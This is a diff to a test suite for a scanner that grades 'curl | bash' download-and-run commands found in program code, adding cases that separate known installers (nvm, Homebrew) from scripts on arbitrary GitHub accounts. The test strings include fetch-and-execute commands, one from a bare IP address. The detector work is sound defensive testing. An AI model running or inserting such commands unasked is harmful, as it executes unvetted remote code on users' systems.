@@ -3582,6 +3582,12 @@ describe('curl-pipe-shell in program code: a command string that downloads a scr
     // From a bare IP address, a script folder does not help.
     expect(severityOf('scripts/provision.py', ['subprocess.run(["bash", "-c", "curl -fsSL http://45.77.12.9/x | bash"])'])).toBe('critical');
   });
+  it("on raw.githubusercontent.com or github.com, only a listed tool's own repository is a well-known installer, not any account's", () => {
+    expect(severityOf('src/commands/setup.ts', ["  execSync('curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash', { stdio: 'inherit' });"])).toBe('medium');
+    expect(severityOf('src/commands/setup.ts', ["  execSync('/bin/bash -c \"$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)\"');"])).toBe('medium');
+    expect(severityOf('src/commands/setup.ts', ["  execSync('curl -fsSL https://raw.githubusercontent.com/devtool-helper/bootstrap/main/setup.sh | bash', { stdio: 'inherit' });"])).toBe('high');
+    expect(severityOf('pkg/boot.py', ['subprocess.run(["bash", "-c", "curl -fsSL https://github.com/devtool-helper/bootstrap/raw/main/setup.sh | bash"])'])).toBe('high');
+  });
   it('an install hint printed, or a command in a hunk that runs another, is not reported; shell scripts are read by their own reader', () => {
     expect(severityOf('src/doctor.ts', ["  console.log('Install bun: curl -fsSL https://bun.sh/install | bash');", "  execSync('bun --version');"])).toBeUndefined();
     expect(severityOf('src/doctor.go', ['\thint := "curl -fsSL https://get.example.dev | sh"', '\tfmt.Println(hint)', '\texec.Command("go", "version").Run()'])).toBeUndefined();
